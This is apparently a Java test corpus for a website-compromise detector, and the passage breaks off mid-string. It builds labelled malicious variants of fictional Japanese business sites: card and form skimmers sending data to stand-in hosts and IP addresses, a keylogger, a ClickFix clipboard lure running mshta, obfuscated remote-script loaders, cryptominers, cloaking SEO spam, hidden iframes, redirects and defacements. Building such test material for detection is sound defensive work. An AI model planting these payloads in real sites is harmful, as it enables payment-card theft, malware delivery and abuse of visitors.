package jp.mamori.checks.web.heldout;

import static jp.mamori.checks.web.heldout.HeldOutVariant.bad;
import static jp.mamori.checks.web.heldout.HeldOutVariant.good;
import static jp.mamori.checks.web.site.Corpus.b64;
import static jp.mamori.checks.web.site.Corpus.charCodes;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import jp.mamori.checks.web.site.TestSite.Reply;
import jp.mamori.checks.web.site.TestSite.Request;

/**
 * Blind batches: variants written, and measured once, before the detectors were changed for them. Four base sites
 * that none of the earlier corpora use: {@code hinata} (a clinic on WordPress with the Cocoon theme and MW WP Form),
 * {@code tsubasa} (a construction company on SWELL with WPForms), {@code komugi} (a bakery with a WooCommerce shop
 * on Storefront) and {@code yamada} (a tax accountant's Shift_JIS site made with Homepage Builder); from
 * {@code [fresh4]} on also {@code kogane} (a manufacturer on Movable Type 7 with A-Form) and {@code lumiere} (a hair
 * salon on Elementor), and the held-out corpus's sites. Each variant's name starts with its batch tag. {@code [fresh5]}
 * reuses all of them with surface forms the earlier batches did not use; {@code [fresh7]} ({@link Fresh7}) has four
 * base sites of its own.
 */
public final class BlindCorpus {
  static final String H = "hinata";
  static final String T = "tsubasa";
  static final String K = "komugi";
  static final String Y = "yamada";
  static final String G = "kogane";
  static final String L = "lumiere";
  // the held-out corpus's sites, reused by later batches
  static final String W = "midori";
  static final String E = "shofudo";
  static final String S = "yamabuki";
  static final String C = "komorebi";
  public static final List<String> SITES = List.of(H, T, K, Y, G, L, Fresh7.A, Fresh7.B, Fresh7.C,
      Fresh7.D);

  /** Domains on this corpus's IoC list (as the console would distribute them), and one script's hash. */
  public static final List<String> IOC_DOMAINS = List.of("assets-wpcdn.com", "tag-metrics.org", "imgcdn-jp.net");
  static final String IOC_SCRIPT = "(function(){var i=new Image(1,1);i.src='https://visitor-log.jp-counter.net/v.gif?s='"
      + "+encodeURIComponent(location.hostname)+'&p='+encodeURIComponent(location.pathname);})();";

  private BlindCorpus() {}

  public static String iocScript() {
    return IOC_SCRIPT;
  }

  public static List<HeldOutVariant> compromises() {
    List<HeldOutVariant> v = new ArrayList<>(fresh3Compromises());
    v.addAll(fresh4Compromises());
    v.addAll(fresh5Compromises());
    v.addAll(Fresh6.compromises());
    v.addAll(Fresh7.compromises());
    return v;
  }

  public static List<HeldOutVariant> benign() {
    List<HeldOutVariant> v = new ArrayList<>(fresh3Benign());
    v.addAll(fresh4Benign());
    v.addAll(fresh5Benign());
    v.addAll(Fresh6.benign());
    v.addAll(Fresh7.benign());
    return v;
  }

  /** The "hunter" obfuscator's encoding (common in WordPress malware): each character in base e with n's digits. */
  static String hunter(String payload, String alphabet, int base, int offset) {
    StringBuilder sb = new StringBuilder();
    for (char c : payload.toCharArray()) {
      String digits = Integer.toString(c + offset, base);
      for (char d : digits.toCharArray()) {
        sb.append(alphabet.charAt(Character.digit(d, base)));
      }
      sb.append(alphabet.charAt(base));
    }
    return sb.toString();
  }

  static String percentAll(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(String.format("%%%02x", (int) c));
    }
    return sb.toString();
  }

  static String loader(String url) {
    return "var s=document.createElement('script');s.src='" + url + "';document.getElementsByTagName('head')[0]"
        + ".appendChild(s);";
  }

  static boolean phone(Request r) {
    return r.userAgent() != null && r.userAgent().matches(".*(iPhone|Android|Mobile).*");
  }

  static boolean fromSearch(Request r) {
    return r.referer() != null && r.referer().matches(".*(google|yahoo|bing)\\..*");
  }

  static final String BRAND_COPY = """
      <a href="https://www.nkyu-brand-jp.com/omega/">オメガ 時計 コピー 激安</a>
      <a href="https://www.nkyu-brand-jp.com/nike/">ナイキ スニーカー 偽物 通販</a>
      <a href="https://www.nkyu-brand-jp.com/moncler/">モンクレール ダウン スーパーコピー</a>
      <a href="https://www.brandkopi-outlet.net/cartier/">カルティエ 指輪 N級品</a>
      <a href="https://www.brandkopi-outlet.net/celine/">セリーヌ バッグ コピー 代引き</a>
      """;
  static final String JP_CASINO = """
      <a href="https://casino-hikaku-navi.com/">オンラインカジノ 比較 2026</a>
      <a href="https://casino-hikaku-navi.com/nyukin-fuyo/">入金不要ボーナス 最新</a>
      <a href="https://live-casino-jp.net/">ライブカジノ おすすめ</a>
      <a href="https://slot-bonus-jp.com/">オンラインスロット 稼げる</a>
      """;
  static final String EN_SPAM = """
      <a href="https://replica-watch-store.net/">replica watches</a>
      <a href="https://best-casino-bonus.org/">online casino no deposit bonus</a>
      <a href="https://rx-meds-direct.com/">buy cialis online</a>
      <a href="https://essay-writers-pro.com/">essay writing service</a>
      """;

  /** A keyword-hack page: brand knock-off words, a product-like layout, links to its sibling pages. */
  static String kwPage(HeldOutEnv e, int n) {
    String[] brands = {"オメガ", "カルティエ", "モンクレール", "ナイキ", "ティファニー", "バレンシアガ"};
    String[] items = {"時計", "指輪", "ダウン", "スニーカー", "ネックレス"};
    String b = brands[n % brands.length];
    String i = items[n % items.length];
    StringBuilder links = new StringBuilder();
    for (int k = 1; k <= 10; k++) {
      links.append("<li><a href=\"").append(e.site.origin).append("/product/nkyu-").append(n * 3 + k).append("/\">")
          .append(brands[(n + k) % brands.length]).append(" ").append(items[k % items.length]).append(" 偽物 激安</a></li>");
    }
    return "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>" + b + " " + i + " コピー 通販 専門店 【"
        + n + "】</title></head><body><h1>" + b + " " + i + " スーパーコピー N級品</h1><p>" + b + " " + i
        + " 偽物 激安 販売。新作 人気 ランキング、品質保証、全国送料無料。</p><ul>" + links + "</ul></body></html>";
  }

  static String octal(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append('\\').append(Integer.toOctalString(c));
    }
    return sb.toString();
  }

  static String shifted(String s, int by) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(sb.length() == 0 ? "" : ",").append(c + by);
    }
    return sb.toString();
  }

  static String kwSitemap(HeldOutEnv e, int from, int count) {
    StringBuilder sb = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        + "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">");
    for (int n = from; n < from + count; n++) {
      sb.append("<url><loc>").append(e.site.origin).append("/product/nkyu-").append(n).append("/</loc></url>");
    }
    return sb.append("</urlset>").toString();
  }

  // ================================================================ [fresh3] compromises

  static List<HeldOutVariant> fresh3Compromises() {
    List<HeldOutVariant> v = new ArrayList<>();
    Instant now = Instant.now();

    // ---- skimmers
    v.add(bad(K, "skimmer", "[fresh3] site-wide footer script that reads the checkout fields by id, only on /checkout", e ->
        e.site.insertBefore("*", "<footer id=\"colophon\"", """
        <script>
        (function(){
          if (location.pathname.indexOf('/checkout') === -1 && location.pathname.indexOf('/cart') === -1) return;
          var gate = 'https://woo-cdn-analytics.com/api/v2/event';
          function grab(){
            var out = {};
            ['billing_first_name','billing_last_name','billing_email','billing_phone','billing_address_1','billing_postcode','card_number','card_expiry','card_cvc'].forEach(function(id){
              var el = document.getElementById(id) || document.querySelector('[name="' + id + '"]');
              if (el && el.value) out[id] = el.value;
            });
            return out;
          }
          document.addEventListener('click', function(e){
            if (e.target && (e.target.id === 'place_order' || e.target.name === 'woocommerce_checkout_place_order')) {
              var d = grab();
              if (Object.keys(d).length) navigator.sendBeacon(gate, btoa(unescape(encodeURIComponent(JSON.stringify(d)))));
            }
          }, true);
        })();
        </script>
        """)));
    v.add(bad(K, "skimmer", "[fresh3] appended to WooCommerce's own script file, drop URL written backwards", e -> e.site.append(
        "/wp-content/plugins/woocommerce/assets/js/frontend/woocommerce.min.js", "\n;(function(){var r='php.tcelloc/ipa/moc."
            + "scitylana-ecremmoc//:sptth'.split('').reverse().join('');jQuery(document.body).on('checkout_place_order',function()"
            + "{var f=document.querySelector('form.checkout');if(!f)return true;try{fetch(r,{method:'POST',mode:'no-cors',body:"
            + "new URLSearchParams(new FormData(f))})}catch(e){}return true;});})();\n")));
    String b = b64("https://static-woo-assets.com/img/p.gif");
    v.add(bad(K, "skimmer", "[fresh3] inside the add-to-cart plugin's inline config: card fields to an <img> via setAttribute",
        e -> e.site.replace("*", "\"cart_redirect_after_add\":\"no\"};", "\"cart_redirect_after_add\":\"no\"};\n"
            + "(function(w,d){var _p=['" + b.substring(0, 20) + "','" + b.substring(20) + "'];var _u=w.atob(_p.join(''));"
            + "d.addEventListener('change',function(ev){var t=ev.target;if(!t||!t.name)return;if(/card|cvc|cvv|expir|billing/i"
            + ".test(t.name)){var i=d.createElement('img');i.setAttribute('src',_u+'?'+t.name+'='+encodeURIComponent(t.value)"
            + "+'&h='+w.location.host);}},true);})(window,document);")));
    v.add(bad(H, "skimmer", "[fresh3] keylogger on the contact page flushing to an IP address and port every 5 s", e ->
        e.site.insertBefore("/contact/", "</body>", """
        <script>
        var _kq=[];
        document.addEventListener('keyup',function(e){var t=e.target;if(t&&(t.tagName=='INPUT'||t.tagName=='TEXTAREA')){_kq.push((t.name||t.id)+':'+t.value);}});
        setInterval(function(){if(!_kq.length)return;var s=_kq.splice(0,_kq.length).join('|');var im=document.createElement('img');im.setAttribute('src','http://193.42.33.7:8080/k.php?s='+encodeURIComponent(s)+'&u='+encodeURIComponent(location.href));},5000);
        </script>
        """)));
    v.add(bad(T, "skimmer", "[fresh3] job-entry form sent as JSON by XHR to a host kept in a template literal", e ->
        e.site.insertBefore("/recruit/entry/", "</body>", """
        <script>
        document.addEventListener('DOMContentLoaded',()=>{const f=document.getElementById('wpforms-form-97');if(!f)return;const h='recruit-form-backup.net';
        f.addEventListener('submit',()=>{const data=Object.fromEntries(new FormData(f).entries());const x=new XMLHttpRequest();x.open('POST',`https://${h}/api/store`,true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({site:location.hostname,data}));});});
        </script>
        """)));
    v.add(bad(Y, "skimmer", "[fresh3] contact form's onsubmit calls a function appended to the site's own JS: JSONP-style exfil",
        e -> {
          e.site.replace("/otoiawase.html", "<FORM action=\"cgi-bin/mailform.cgi\" method=\"POST\" name=\"mailform\">",
              "<FORM action=\"cgi-bin/mailform.cgi\" method=\"POST\" name=\"mailform\" onsubmit=\"return chk(this)\">");
          e.site.append("/move-mainnav.js", "\nfunction chk(f){try{var q=[];for(var i=0;i<f.elements.length;i++){var e=f.elements[i];"
              + "if(e.name&&e.value)q.push(e.name+'='+escape(e.value));}var s=document.createElement('script');"
              + "s.src='//45.9.148.21/m/c.php?'+q.join('&');document.getElementsByTagName('head')[0].appendChild(s);}catch(x){}"
              + "return true;}\n");
        }));
    v.add(bad(K, "skimmer", "[fresh3] my-account login form posts to a look-alike of the shop's domain", e -> e.site.replace(
        "/my-account/", "<form class=\"woocommerce-form woocommerce-form-login login\" method=\"post\">",
        "<form class=\"woocommerce-form woocommerce-form-login login\" method=\"post\" action=\"https://komugi-pan-login.com/my-account/\">")));

    // ---- fake updates, ClickFix
    v.add(bad(T, "fake-update", "[fresh3] ClickFix in Japanese: 'mshta' spelled with char codes onto the clipboard", e ->
        e.site.insertBefore("*", "<footer id=\"footer\"", """
        <div id="cf-verify" style="position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:2147483647;font-family:sans-serif">
        <div style="max-width:520px;margin:12vh auto;padding:32px;border:1px solid #ddd;border-radius:8px">
        <h2>ロボットではないことを確認してください</h2>
        <p><label><input type="checkbox" id="cf-chk"> 私はロボットではありません</label></p>
        <div id="cf-steps" style="display:none"><p>確認のため、次の手順を行ってください。</p><ol><li>Windows キー + R を押します</li><li>Ctrl + V を押します</li><li>Enter キーを押します</li></ol></div>
        </div></div>
        <script>
        document.getElementById('cf-chk').addEventListener('change',function(){
          var c=String.fromCharCode(109,115,104,116,97)+' https://verify-captcha-check.com/v/'+Math.floor(Math.random()*1e6)+' # I am not a robot - reCAPTCHA ID: 4471';
          navigator.clipboard.writeText(c);document.getElementById('cf-steps').style.display='block';});
        </script>
        """)));
    v.add(bad(H, "fake-update", "[fresh3] SocGholish-style loader appended to the theme's javascript.js (skips bots, once per visitor)",
        e -> e.site.append("/wp-content/themes/cocoon-master/javascript.js", "\n;(function(){if(navigator.webdriver||"
            + "document.cookie.indexOf('_ga_seen')>-1)return;document.cookie='_ga_seen=1;path=/;max-age=2592000';var s=document"
            + ".createElement('script');s.async=true;s.src=atob('" + b64("https://notify.tatami-shop-online.com/s_code.js?cid=221")
            + "');document.getElementsByTagName('head')[0].appendChild(s);})();\n")));
    v.add(bad(K, "fake-update", "[fresh3] 'HoeflerText font wasn't found' overlay with a font-pack download", e ->
        e.site.insertBefore("*", "<footer id=\"colophon\"", """
        <div id="ftx" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fafafa;z-index:99999;text-align:center;padding-top:80px;font-family:Arial">
        <img src="https://font-cdn-update.com/img/chrome-logo.png" width="64" height="64" alt="">
        <h2>The "HoeflerText" font wasn't found.</h2>
        <p>The web page you are trying to load is displayed incorrectly, as it uses the "HoeflerText" font. To fix the error and display the text, you have to update the "Chrome Font Pack".</p>
        <p><a href="https://font-cdn-update.com/get/Chrome_Font.zip" style="padding:10px 26px;background:#4285f4;color:#fff">Update</a></p>
        <p>Manufacturer: Google Inc. &nbsp; Current version: 53.0.2785.116</p></div>
        """)));

    // ---- Japanese keyword hack and cloaking
    v.add(bad(H, "keyword-hack", "[fresh3] Googlebot alone gets a brand-copy title and description", e -> {
      HeldOutSite bot = HeldOutCorpus.copy(e);
      bot.replace("/", "<title>ひなた内科クリニック｜福岡市中央区の内科・糖尿病内科</title>",
          "<title>ブランド 財布 コピー 激安 通販 | 人気 N級品 専門店</title>");
      bot.replace("/", "content=\"福岡市中央区薬院の内科", "content=\"スーパーコピー 財布 バッグ 時計 N級品 激安 通販。福岡市中央区薬院の内科");
      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
    }));
    v.add(bad(T, "keyword-hack", "[fresh3] cloaking on the works page only: Googlebot gets a page of brand-copy links", e -> {
      HeldOutSite bot = HeldOutCorpus.copy(e);
      StringBuilder block = new StringBuilder("<ul class=\"p-postList\">");
      for (int n = 1; n <= 24; n++) {
        block.append("<li><a href=\"").append(e.site.origin).append("/works/?p=").append(7100 + n).append("\">")
            .append(n % 2 == 0 ? "モンクレール ダウン スーパーコピー 激安" : "オメガ 時計 偽物 N級品 通販").append("</a></li>");
      }
      bot.insertBefore("/works/", "<ul class=\"p-postList -type-card works-list\">", block.append("</ul>").toString());
      e.site.override = r -> r.isBot() && r.path().equals("/works/") ? bot.serve(r) : null;
    }));
    v.add(bad(K, "keyword-hack", "[fresh3] a new child of the WordPress sitemap index lists 3,000 knock-off product pages", e -> {
      e.site.replace("/wp-sitemap.xml", "</sitemapindex>", "<sitemap><loc>{{origin}}/wp-sitemap-posts-product-2.xml</loc></sitemap>"
          + "</sitemapindex>");
      e.site.put("/wp-sitemap-posts-product-2.xml", kwSitemap(e, 1, 3000));
      e.site.override = r -> r.path().startsWith("/product/nkyu-")
          ? Reply.html(kwPage(e, Integer.parseInt(r.path().replaceAll("\\D", "")) % 4000)) : null;
    }));
    v.add(bad(Y, "keyword-hack", "[fresh3] Googlebot gets a pachinko and online-casino page instead of the home page", e -> {
      StringBuilder body = new StringBuilder();
      for (int n = 0; n < 15; n++) {
        body.append("<p>倉敷 オンラインカジノ 入金不要ボーナス パチンコ 攻略 スロット 稼げる ネットカジノ 比較</p>");
      }
      String page = "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>オンラインカジノ 入金不要ボーナス | "
          + "倉敷</title></head><body><h1>オンラインカジノ ランキング</h1>" + body + JP_CASINO + "</body></html>";
      e.site.override = r -> r.isBot() && r.path().equals("/") ? Reply.html(page) : null;
    }));
    v.add(bad(H, "keyword-hack", "[fresh3] spam pages only for Googlebot, listed in a sitemap added to robots.txt", e -> {
      e.site.append("/robots.txt", "\nSitemap: {{origin}}/sitemap-index-jp.xml\n");
      e.site.put("/sitemap-index-jp.xml", kwSitemap(e, 1, 1800));
      e.site.override = r -> {
        if (!r.path().startsWith("/product/nkyu-")) {
          return null;
        }
        return r.isBot() ? Reply.html(kwPage(e, Integer.parseInt(r.path().replaceAll("\\D", "")) % 4000))
            : Reply.redirect(302, e.site.origin + "/");
      };
    }));

    // ---- hidden SEO spam
    v.add(bad(T, "seo-spam", "[fresh3] footer links hidden by a class the attacker added to the child theme's style.css", e -> {
      e.site.append("/wp-content/themes/swell_child/style.css", "\n.swl-ft-links{position:absolute;left:-9999px;top:-9999px}\n");
      e.site.insertBefore("*", "<p class=\"copyright\">", "<div class=\"swl-ft-links\">" + BRAND_COPY + "</div>");
    }));
    v.add(bad(K, "seo-spam", "[fresh3] English spam links in a 1x1 overflow:hidden box in the footer", e -> e.site.insertBefore("*",
        "<div class=\"site-info\">", "<div style=\"width:1px;height:1px;overflow:hidden\">" + EN_SPAM + "</div>")));
    v.add(bad(H, "seo-spam", "[fresh3] casino links placed behind the header with a negative z-index", e -> e.site.insertBefore("*",
        "<div id=\"header-container\"", "<div style=\"position:absolute;top:0;left:0;z-index:-1\">" + JP_CASINO + "</div>")));
    v.add(bad(Y, "seo-spam", "[fresh3] white <FONT> links on the white page (Shift_JIS)", e -> e.site.insertBefore("*",
        "<DIV id=\"hpb-footerMain\">", "<FONT color=\"#FFFFFF\" size=\"1\">" + BRAND_COPY + "</FONT>")));
    v.add(bad(T, "seo-spam", "[fresh3] casino links in a block marked aria-hidden and display:none", e -> e.site.insertBefore("*",
        "<div class=\"p-fixBtnWrap\">", "<div aria-hidden=\"true\" style=\"display:none\">" + JP_CASINO + "</div>")));
    v.add(bad(K, "seo-spam", "[fresh3] hidden spam block appended after </html>", e -> e.site.replace("*", "</body>\n</html>",
        "</body>\n</html>\n<div style=\"display:none\">" + EN_SPAM + BRAND_COPY + "</div>")));
    v.add(bad(Y, "seo-spam", "[fresh3] spam links put inside the site's own off-screen skip-link box", e -> e.site.replace("*",
        "<DIV id=\"hpb-skip\"><A href=\"#hpb-title\">本文へスキップ</A>", "<DIV id=\"hpb-skip\"><A href=\"#hpb-title\">本文へスキップ</A>"
            + JP_CASINO)));

    // ---- redirects
    v.add(bad(H, "redirect", "[fresh3] phones (by screen width, not user agent) sent once to a prize page", e -> e.site.insertBefore("*",
        "</head>", "<script>(function(){if(window.matchMedia&&matchMedia('(max-width: 767px)').matches&&!sessionStorage.getItem("
            + "'_mr')){sessionStorage.setItem('_mr','1');setTimeout(function(){location.replace('https://sp-present-campaign.com/jp/"
            + "?c=hn')},1200);}})();</script>\n")));
    v.add(bad(T, "redirect", "[fresh3] search-referrer redirect with the target as a char-code array mapped and joined", e ->
        e.site.insertBefore("*", "</head>", "<script>!function(){var r=document.referrer;if(!/\\.(google|yahoo|bing)\\./.test(r))"
            + "return;var t=[" + charCodes("https://kensetsu-loan-navi.com/?k=1") + "].map(function(c){return String.fromCharCode(c)})"
            + ".join('');window.location.href=t;}();</script>\n")));
    v.add(bad(K, "redirect", "[fresh3] server 302 only for phones arriving from a search engine", e -> e.site.override = r ->
        phone(r) && fromSearch(r) ? Reply.redirect(302, "https://sp-lucky-draw.com/jp/?s=kmg") : null));
    v.add(bad(Y, "redirect", "[fresh3] meta refresh with single quotes placed in the body", e -> e.site.insertAfter("/",
        "<DIV id=\"hpb-main\">", "\n<meta http-equiv='refresh' content='0; url=http://kaikei-hojokin-navi.com/'>")));
    v.add(bad(H, "redirect", "[fresh3] delayed redirect through self['loc'+'ation'] inside the theme's inline config", e ->
        e.site.replace("*", "\"is_footer_mobile_buttons_enable\":\"1\"};", "\"is_footer_mobile_buttons_enable\":\"1\"};"
            + "setTimeout(function(){self['loc'+'ation']['hr'+'ef']='https://'+'clinic-coupon'+'.info/?r=hn'},3000);")));
    v.add(bad(T, "redirect", "[fresh3] home page 302s to itself with a parameter, and that page redirects off-site by script", e ->
        e.site.override = r -> {
          if (!r.path().equals("/")) {
            return null;
          }
          if (r.query() == null || !r.query().contains("lp=")) {
            return Reply.redirect(302, e.site.origin + "/?lp=1");
          }
          return Reply.html("<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>翼建設株式会社</title>"
              + "<script>window.location.href=\"https://koji-hikaku-navi.com/?from=tsubasa\";</script></head><body></body></html>");
        }));
    v.add(bad(K, "redirect", "[fresh3] theme navigation script sends phones elsewhere with document.location", e -> e.site.append(
        "/wp-content/themes/storefront/assets/js/navigation.min.js", "\n;if(/Mobi|Android|iPhone/i.test(navigator.userAgent)&&"
            + "!/komugi_sp=1/.test(document.cookie)){document.cookie='komugi_sp=1;path=/;max-age=43200';document.location="
            + "'https://pan-gift-present.com/sp/';}\n")));

    // ---- malicious iframes
    v.add(bad(K, "iframe", "[fresh3] hidden iframe written with document.write and a split tag name", e -> e.site.insertBefore("*",
        "</body>", "<script>document.write('<ifr'+'ame src=\"https://ad-frame-cdn.com/f/88\" width=\"0\" height=\"0\" "
            + "frameborder=\"0\" style=\"display:none\"></ifr'+'ame>');</script>\n")));
    v.add(bad(T, "iframe", "[fresh3] 3-pixel iframe pushed just off the corner", e -> e.site.insertBefore("*", "</body></html>",
        "<iframe src=\"https://stat-ad-gate.com/c.php?s=tsubasa\" style=\"border:0;width:3px;height:3px;position:absolute;"
            + "top:-10px;left:-10px\"></iframe>")));
    v.add(bad(H, "iframe", "[fresh3] iframe in an off-screen box inside the theme footer", e -> e.site.insertBefore("*",
        "<div class=\"source-org copyright\">", "<div style=\"position:absolute;left:-5000px;top:0\"><iframe src=\"https://"
            + "med-traffic-exchange.com/in/7731\" width=\"728\" height=\"90\"></iframe></div>")));
    v.add(bad(Y, "iframe", "[fresh3] iframe in a box hidden by a class added to the site's user.css", e -> {
      e.site.append("/user.css", "\n.ad-frame{display:none}\n");
      e.site.insertBefore("*", "<DIV id=\"hpb-footerMain\">", "<DIV class=\"ad-frame\"><IFRAME src=\"http://tax-ad-network.com/"
          + "f.php?id=kurashiki\" width=\"468\" height=\"60\"></IFRAME></DIV>");
    }));

    // ---- miners
    v.add(bad(T, "miner", "[fresh3] CoinImp-style miner from hostingcloud.racing with a throttle", e -> e.site.insertBefore("*",
        "</body></html>", "<script src=\"https://www.hostingcloud.racing/Zm1s.js\"></script><script>var _client = new Client."
            + "Anonymous('f3b1c7a9d2e84c6b0a5f9e1d3c7b2a8e4f6d0c9b1a3e5f7d9c2b4a6e8f0d1c3b', {throttle: 0.4, c: 'w'});"
            + "_client.start();</script>")));
    v.add(bad(Y, "miner", "[fresh3] miner in a new same-site script: a worker per core and the webminerpool job protocol", e -> {
      e.site.insertBefore("*", "</HEAD>", "<script type=\"text/javascript\" src=\"js/acc.js\"></script>\n");
      e.site.put("/js/acc.js", """
          var _pool='wss://pool.minexmr-proxy.net:443/';var _site='45dfxqXZ8uVjXbKjJ2Rz3s9nWQ6kT2p8hE5yLmC4bN7aF1dG3jK9sP2rT6vW8';
          var _w=[];var n=navigator.hardwareConcurrency||2;
          var src="self.onmessage=function(e){var j=e.data;var hashes=0;function step(){for(var i=0;i<1000;i++){hashes++;}postMessage({h:hashes});setTimeout(step,0)}step();}";
          for(var i=0;i<n;i++){_w.push(new Worker(URL.createObjectURL(new Blob([src],{type:'application/javascript'}))))}
          var ws=new WebSocket(_pool);
          ws.onopen=function(){ws.send(JSON.stringify({identifier:'handshake',pool:'moneroocean.stream',login:_site,password:'x',version:7}))};
          ws.onmessage=function(m){var d=JSON.parse(m.data);if(d.identifier==='job'){_w.forEach(function(w){w.postMessage(d)})}};
          """);
    }));

    // ---- obfuscation
    v.add(bad(H, "obfuscation", "[fresh3] obfuscator.io style: rotated string array, hex-number indexes, no _0x names", e ->
        e.site.insertBefore("*", "</head>", """
        <script>
        (function(a,b){var c=d,e=a();while(!![]){try{var f=parseInt(c(0x1e4))/0x1+-parseInt(c(0x1e0))/0x2+parseInt(c(0x1e7))/0x3*(parseInt(c(0x1e2))/0x4)+-parseInt(c(0x1e6))/0x5+parseInt(c(0x1df))/0x6+parseInt(c(0x1e3))/0x7*(-parseInt(c(0x1e5))/0x8)+parseInt(c(0x1e1))/0x9;if(f===b)break;else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(h,0x5a2c1));
        function d(a,b){var c=h();return d=function(e,f){e=e-0x1df;var g=c[e];return g;},d(a,b);}
        function h(){var i=['1143920ePlqWx','2xkXfOu','489VCNmHx','3264512GnPYdy','12rTgmHa','7wWnoPk','1129656YbZQvT','5408110QJxVNe','3fPqLmx','createElement','head','src','https://cdn-statics.org/jq/ui.min.js','appendChild','script'];h=function(){return i;};return h();}
        (function(){var j=d,k=document[j(0x1e8)](j(0x1ed));k[j(0x1ea)]=j(0x1eb);document[j(0x1e9)][j(0x1ec)](k);}());
        </script>
        """)));
    String hunted = hunter(loader("https://wp-assets-cache.com/js/jquery.min.js"), "kXqvLbZnp", 8, 17);
    v.add(bad(T, "obfuscation", "[fresh3] the 'hunter' obfuscator (eval(function(h,u,n,t,e,r){...}))", e -> e.site.insertBefore(
        "*", "</body></html>", "<script>var _0xc53e=[\"\",\"split\",\"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRST"
            + "UVWXYZ+/\",\"slice\",\"indexOf\",\"\",\"\",\".\",\"pow\",\"reduce\",\"reverse\",\"0\"];function _0xe5c(d,e,f){var g="
            + "_0xc53e[2][_0xc53e[1]](_0xc53e[0]);var h=g[_0xc53e[3]](0,e);var i=g[_0xc53e[3]](0,f);var j=d[_0xc53e[1]](_0xc53e[0])"
            + "[_0xc53e[10]]()[_0xc53e[9]](function(a,b,c){if(h[_0xc53e[4]](b)!==-1)return a+=h[_0xc53e[4]](b)*(Math[_0xc53e[8]]"
            + "(e,c))},0);var k=_0xc53e[0];while(j>0){k=i[j%f]+k;j=(j-(j%f))/f}return k||_0xc53e[11]}eval(function(h,u,n,t,e,r){r"
            + "=\"\";for(var i=0,len=h.length;i<len;i++){var s=\"\";while(h[i]!==n[e]){s+=h[i];i++}for(var j=0;j<n.length;j++)s=s"
            + ".replace(new RegExp(n[j],\"g\"),j);r+=String.fromCharCode(_0xe5c(s,e,10)-t)}return decodeURIComponent(escape(r))}(\""
            + hunted + "\",52,\"kXqvLbZnp\",17,8,33))</script>")));
    v.add(bad(K, "obfuscation", "[fresh3] Function and atob reached through globalThis with split names", e -> e.site.insertBefore(
        "*", "</head>", "<script>(function(g){var k='at'+'ob',f='Fun'+'ction';var p='" + b64(loader(
            "https://woo-cdn-static.com/wc/cart.js")) + "';g[f](g[k](p))();})(globalThis);</script>\n")));
    String reversed = new StringBuilder(loader("http://checkia-stat.com/a.js")).reverse().toString();
    v.add(bad(Y, "obfuscation", "[fresh3] code written backwards and run with eval after reverse()", e -> e.site.insertBefore("*",
        "</HEAD>", "<script type=\"text/javascript\">var _r=\"" + reversed + "\";eval(_r.split(\"\").reverse().join(\"\"));"
            + "</script>\n")));
    v.add(bad(H, "obfuscation", "[fresh3] percent-encoded code decoded into a variable and run by setTimeout", e ->
        e.site.insertBefore("*", "</body>", "<script>var _c=decodeURIComponent('" + percentAll(loader(
            "https://clinic-wp-cdn.com/assets/app.js")) + "');setTimeout(_c,10);</script>\n")));
    v.add(bad(T, "obfuscation", "[fresh3] base64 code kept in a hidden element's data attribute, run by new Function", e ->
        e.site.insertBefore("*", "<div class=\"p-fixBtnWrap\">", "<div id=\"swl-cfg\" data-c=\"" + b64(loader(
            "https://swell-theme-cdn.com/build/js/front.js")) + "\" hidden></div><script>new Function(atob(document.getElementById("
            + "'swl-cfg').dataset.c))();</script>")));

    // ---- defacement
    v.add(bad(K, "defacement", "[fresh3] home replaced by a Chinese company page (no gambling words)", e ->
        e.site.override = HeldOutCorpus.home(
        "<!DOCTYPE html><html lang=\"zh-CN\"><head><meta charset=\"UTF-8\"><title>深圳市恒达电子科技有限公司 - 官方网站</title></head>"
            + "<body><div class=\"header\"><h1>恒达电子科技</h1><ul><li>首页</li><li>关于我们</li><li>产品中心</li><li>联系我们</li></ul></div>"
            + "<div class=\"main\"><p>" + "深圳市恒达电子科技有限公司成立于2008年，是一家专业从事电子元器件研发、生产和销售的高新技术企业。"
            .repeat(8) + "</p></div></body></html>")));
    v.add(bad(T, "defacement", "[fresh3] 'Touched by' crew banner at the top of the home content", e -> e.site.insertAfter("/",
        "<div class=\"post_content\">", "<center><h1>~ Touched By ./Sec7or Team ~</h1><p>Security Just Illusion | "
            + "We Are Sec7or</p></center>")));
    v.add(bad(H, "defacement", "[fresh3] home replaced by an English online-pharmacy storefront", e ->
        e.site.override = HeldOutCorpus.home(
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"UTF-8\"><title>HealthMart - Trusted Online Drugstore</title></head>"
            + "<body><h1>Best prices on generic medications</h1><p>" + "Order quality generics with fast worldwide shipping. "
            + "Bonus pills with every order, secure checkout and discreet packaging. ".repeat(6) + "</p><ul><li>Sildenafil 100mg"
            + "</li><li>Tadalafil 20mg</li><li>Modafinil 200mg</li></ul></body></html>")));
    v.add(bad(Y, "defacement", "[fresh3] Japanese intruder message in the title and at the top of every page", e -> {
      e.site.replace("*", "<TITLE>", "<TITLE>このサイトは乗っ取られています｜");
      e.site.insertAfter("*", "<DIV id=\"hpb-main\">", "<H1>このホームページは乗っ取られています</H1><P>管理が甘いので入らせて"
          + "もらいました。パスワードは変えておいてください。</P>");
    }));
    v.add(bad(T, "defacement", "[fresh3] home replaced by an image, a marquee and a crew name in the title", e -> e.site.override =
        HeldOutCorpus.home("<html><head><title>./Gh0stSec</title></head><body bgcolor=\"black\"><center><img src=\"https://i.ibb.co/7Qx2m4K/"
            + "ghost.gif\" width=\"480\"><br><marquee><font color=\"lime\" face=\"courier\">we are everywhere ~ ./Gh0stSec ~ "
